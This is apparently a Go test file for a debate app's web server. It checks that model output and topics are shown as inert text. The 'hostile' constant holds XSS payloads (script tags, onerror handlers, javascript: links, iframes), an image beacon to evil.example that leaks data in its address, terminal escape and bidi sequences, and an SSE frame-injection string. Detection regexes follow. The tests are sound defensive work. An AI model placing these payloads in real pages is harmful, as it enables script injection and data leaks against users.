package server

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/parleyhq/parley/internal/debate"
	"github.com/parleyhq/parley/internal/llm"
	"github.com/parleyhq/parley/internal/textsafe"
)

// hostile is model output and a topic that try to run script in the page,
// to drive a terminal, and to make the page fetch an image (which tells a
// server of the model's choosing who reads the debate, and when, and
// carries what the model put in the address; CSP blocks only other sites).
const hostile = "<script>window.pwned=1</script> <img src=x onerror=\"window.pwned=2\"> [click](javascript:window.pwned=3) " +
	"![track](https://evil.example/t.png?leak=secret) ![self](/api/debates) &#x202E;gnp.exe &ZeroWidthSpace; " +
	"<a href=\"javascript:alert(1)\">x</a> \x1b]0;owned\x07\x1b[31mred\x1b[0m <iframe src=//evil.example></iframe> {{.}}" +
	" \u009b2J\u009b1;1H \u202egnp.exe\x7f"

// seedHostile stores a completed debate whose topic and turns are hostile.
func seedHostile(t *testing.T, store debate.Store) string {
	t.Helper()
	id := "DEB-0badc0de"
	at := time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)
	var evs []debate.Event
	for _, p := range []debate.Payload{
		debate.Created{Format: "perspectives", Topic: "Topic " + hostile, Options: []byte(`{"perspectives":2,"max_rounds":1,"checkpoints":false}`), Limits: debate.DefaultLimits()},
		debate.PhaseChanged{Phase: "r1", Label: "Round 1 " + hostile},
		debate.TurnStarted{Turn: debate.TurnRef{ID: "r1/argument/a", Agent: "a<b>", Role: "debater", Phase: "r1"}, Attempt: 1},
		// A tool call's name and arguments are model output too; JSON
		// allows bidi overrides and C1 controls raw in its strings.
		debate.ToolCalled{Turn: "r1/argument/a", Call: llm.ToolCall{ID: "c1", Name: "search\u202e<b>", Args: []byte(`{"q":"x\u202egnp.exe \u009b2J <script>"}`)}},
		debate.TurnCompleted{Turn: debate.TurnRef{ID: "r1/argument/a", Agent: "a<b>", Role: "debater", Phase: "r1"}, Text: hostile, Model: "openai/x"},
		debate.TurnStarted{Turn: debate.TurnRef{ID: "r1/argument/b", Agent: "b", Role: "debater", Phase: "r1"}, Attempt: 1},
		debate.TurnDelta{Turn: "r1/argument/b", Text: hostile},
		debate.HintQueued{ID: 1, Target: "b", Text: hostile},
	} {
		e, err := debate.NewEvent(id, at, p)
		if err != nil {
			t.Fatal(err)
		}
		evs = append(evs, e)
	}
	if _, err := store.Append(context.Background(), id, evs...); err != nil {
		t.Fatal(err)
	}
	return id
}

// readFor reads what url answers within d: the event stream of a debate
// that has not ended stays open.
func readFor(t *testing.T, url string, d time.Duration) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, "GET", url, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body) // cut by the deadline for a stream
	return string(b)
}

var (
	scriptTag = regexp.MustCompile(`(?i)<script>|<script[^>]*>[^<]`)
	handlers  = regexp.MustCompile(`(?i)<[^>]+\son[a-z]+\s*=`)
	jsHref    = regexp.MustCompile(`(?i)(href|src)\s*=\s*"?\s*javascript:`)
	rawTags   = regexp.MustCompile(`(?i)<(iframe|img)[\s>]`)
)

func TestHostileOutputIsInert(t *testing.T) {
	ts := newTestServer(t, nil, "")
	id := seedHostile(t, ts.app.Store)
	for _, path := range []string{"/", "/debates/" + id, "/debates/" + id + "/panel", "/debates/" + id + "/report"} {
		resp, out := ts.do(t, "GET", path, "")
		if resp.StatusCode != 200 {
			t.Fatalf("GET %s: %d %.300s", path, resp.StatusCode, out)
		}
		// The page's own script is external; no tag, handler or URL from
		// the debate may be live.
		page := strings.ReplaceAll(out, `<script src="/static/app.js" defer></script>`, "")
		for name, re := range map[string]*regexp.Regexp{"script": scriptTag, "event handler": handlers, "javascript: URL": jsHref, "raw tag": rawTags} {
			if m := re.FindString(page); m != "" {
				t.Errorf("GET %s: a live %s from model output: %q", path, name, m)
			}
		}
		if strings.ContainsAny(out, "\x1b\x07\u202e\u009b") {
			t.Errorf("GET %s: terminal escapes or bidi overrides reach the page: %q", path, out)
		}
	}
	// A completed turn's card shows the reply as text: raw HTML that
	// starts it (a <script> or <!-- block) hid all of it, and an image
	// in it was fetched from the model's address or this server's.
	_, panel := ts.do(t, "GET", "/debates/"+id+"/panel", "")
	_, card, _ := strings.Cut(panel, `data-turn="r1/argument/a"`)
	card, _, _ = strings.Cut(card, "</article>")
	for _, want := range []string{"&lt;script&gt;window.pwned=1&lt;/script&gt;", "![track](https://evil.example/t.png?leak=secret)", "![self](/api/debates)"} {
		if !strings.Contains(card, want) {
			t.Errorf("the turn's card does not show %q as text:\n%s", want, card)
		}
	}
	if strings.Contains(panel, "<img") {
		t.Errorf("the page shows an image from model output:\n%s", panel)
	}
	// The JSON API escapes HTML too, for clients that paste it into pages.
	_, out := ts.do(t, "GET", "/api/debates/"+id, "")
	if strings.Contains(out, "<script>") {
		t.Errorf("the API returns raw <script>: %.200s", out)
	}
	// Its answers are printed by curl on a terminal: the C1 controls (U+009B
	// is CSI to xterm), bidi overrides and DEL that JSON encoders leave raw
	// are escaped, in every answer that carries model output.
	for _, path := range []string{"/api/debates", "/api/debates/" + id, "/api/debates/" + id + "/export?as=json", "/api/debates/" + id + "/events"} {
		out := readFor(t, ts.URL+path, 2*time.Second)
		if strings.ContainsAny(out, "\u009b\u202e\x7f\x1b") {
			t.Errorf("GET %s: raw characters a terminal acts on: %.300q", path, out)
		}
		if path != "/api/debates" && !strings.Contains(out, `\u009b2J`) {
			t.Errorf("GET %s: the reply is not kept, escaped: %.300q", path, out)
		}
	}
}

// TestDeepNestingIsBounded: a reply that nests lists or block quotes
// deeper and deeper on one line ("1. 1. 1. …"), or line after line, each
// indented more, makes a page nested no deeper than textsafe.Shallow
// allows. goldmark parses such nesting in more than linear time (a reply
// a few hundred kilobytes long took seconds for every view of the page)
// and a browser lays out a DOM that deep slowly, if at all.
func TestDeepNestingIsBounded(t *testing.T) {
	m := newMarkdown()
	tag := regexp.MustCompile(`</?(ol|ul|blockquote)>`)
	// Each line indented two columns more than the one before opens a
	// list in the one before (400 lines took goldmark two seconds for each
	// parse, a megabyte eight).
	var indented strings.Builder
	for i := range 400 {
		indented.WriteString(strings.Repeat("  ", i) + "- deep\n")
	}
	// A line opens MaxNesting lists, and indentation one for each two of
	// its MaxIndent columns, and one more at the left margin.
	limit := textsafe.MaxNesting + textsafe.MaxIndent/2 + 1
	for name, src := range map[string]string{"quotes": strings.Repeat("> ", 5000) + "deep", "ordered": strings.Repeat("1. ", 5000) + "deep",
		"mixed": strings.Repeat("> - ", 5000) + "deep", "indented": indented.String(), "indented then inline": indented.String() + strings.Repeat(" ", 400) + strings.Repeat("- ", 5000) + "deep"} {
		t.Run(name, func(t *testing.T) {
			depth, deepest := 0, 0
			for _, m := range tag.FindAllString(string(m.HTML(src)), -1) {
				if strings.HasPrefix(m, "</") {
					depth--
				} else {
					depth++
				}
				deepest = max(deepest, depth)
			}
			if deepest > limit {
				t.Errorf("the page nests %d lists and quotes, want at most %d", deepest, limit)
			}
		})
	}
}

// TestWideTablesAreBounded: a table's rows are filled to the header's
// columns, so a header of a thousand columns over a thousand one-cell rows
// (8 KB of reply) made a million cells; such a table is shown as text, and
// a table whose rows hold their cells is kept.
func TestWideTablesAreBounded(t *testing.T) {
	m := newMarkdown()
	wide := "|" + strings.Repeat("a|", 1000) + "\n|" + strings.Repeat("-|", 1000) + "\n" + strings.Repeat("|b|\n", 1000)
	if n := strings.Count(string(m.HTML(wide)), "<td"); n > textsafe.MaxCells+len(wide) {
		t.Errorf("the page holds %d table cells for a reply of %d bytes", n, len(wide))
	}
	if n := strings.Count(string(m.HTML("| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n")), "<td"); n != 4 {
		t.Errorf("a table of two rows of two cells shows %d cells", n)
	}
}

// TestReportSectionsAreTheDocuments: the report page folds the document at
// its "## " headings as a Markdown reader finds them: a "## " line in a
// code block (a "~~~" fence, or one of four backticks holding "```") is
// code, not a section, and a line that only looks like a fence ("```x`y")
// hides no section after it.
func TestReportSectionsAreTheDocuments(t *testing.T) {
	doc := "# Title\n\nLead.\n\n## One\n\n~~~\n## Code, not a section\n~~~\n\n````\n```\n## Still code\n````\n\n```x`y\n\n## Two\n\ntext\n"
	title, _, secs := newMarkdown().sections(doc)
	var got []string
	for _, s := range secs {
		got = append(got, s.Title)
	}
	if title != "Title" || strings.Join(got, "|") != "One|Two" {
		t.Errorf("title %q, sections %q; want Title and [One Two]", title, got)
	}
	if len(secs) == 2 && (!strings.Contains(string(secs[0].Body), "## Code, not a section") || !strings.Contains(string(secs[0].Body), "## Still code")) {
		t.Errorf("the code blocks are not in the first section: %s", secs[0].Body)
	}
}

// TestSSEFramesHoldNoModelLines: a reply that holds line breaks (LF, CR,
// CRLF) and lines an event stream gives meaning to ("data:", "event:",
// "id:", "retry:") frames no event of its own: each event is one "id:"
// line and one "data:" line of JSON, and the reply comes back whole.
func TestSSEFramesHoldNoModelLines(t *testing.T) {
	ts := newTestServer(t, nil, "")
	id := "DEB-00sse0de"
	inject := "a\n\ndata: {\"type\":\"debate.completed\"}\nevent: boom\r\rid: 999\r\nretry: 1\n\n: comment\u2028\u0085end"
	at := time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)
	for _, p := range []debate.Payload{
		debate.Created{Format: "perspectives", Topic: "SSE " + inject, Options: []byte(`{"perspectives":2,"max_rounds":1,"checkpoints":false}`), Limits: debate.DefaultLimits()},
		debate.TurnStarted{Turn: debate.TurnRef{ID: "r1/argument/a", Agent: "a", Role: "debater", Phase: "r1"}, Attempt: 1},
		debate.TurnDelta{Turn: "r1/argument/a", Text: inject},
	} {
		e, err := debate.NewEvent(id, at, p)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := ts.app.Store.Append(context.Background(), id, e); err != nil {
			t.Fatal(err)
		}
	}
	out := readFor(t, ts.URL+"/api/debates/"+id+"/events", time.Second)
	ids, datas := 0, 0
	// An event stream's lines end at CR, LF or CRLF.
	for _, line := range strings.FieldsFunc(strings.ReplaceAll(out, "\r\n", "\n"), func(r rune) bool { return r == '\n' || r == '\r' }) {
		switch {
		case strings.HasPrefix(line, "id: "):
			ids++
		case strings.HasPrefix(line, "data: {"):
			datas++
			var ev struct {
				Type string `json:"type"`
				Data struct {
					Text string `json:"text"`
				} `json:"data"`
			}
			if err := json.Unmarshal([]byte(strings.TrimPrefix(line, "data: ")), &ev); err != nil {
				t.Errorf("a data line is not one JSON event: %v: %q", err, line)
			}
			if ev.Type == debate.TypeTurnDelta && ev.Data.Text != inject {
				t.Errorf("the delta's text came back as %q, want %q", ev.Data.Text, inject)
			}
		case line == "retry: 2000":
		default:
			t.Errorf("a line the server did not frame: %q", line)
		}
	}
	if ids != 3 || datas != 3 {
		t.Errorf("%d id and %d data lines for 3 events:\n%s", ids, datas, out)
	}
}
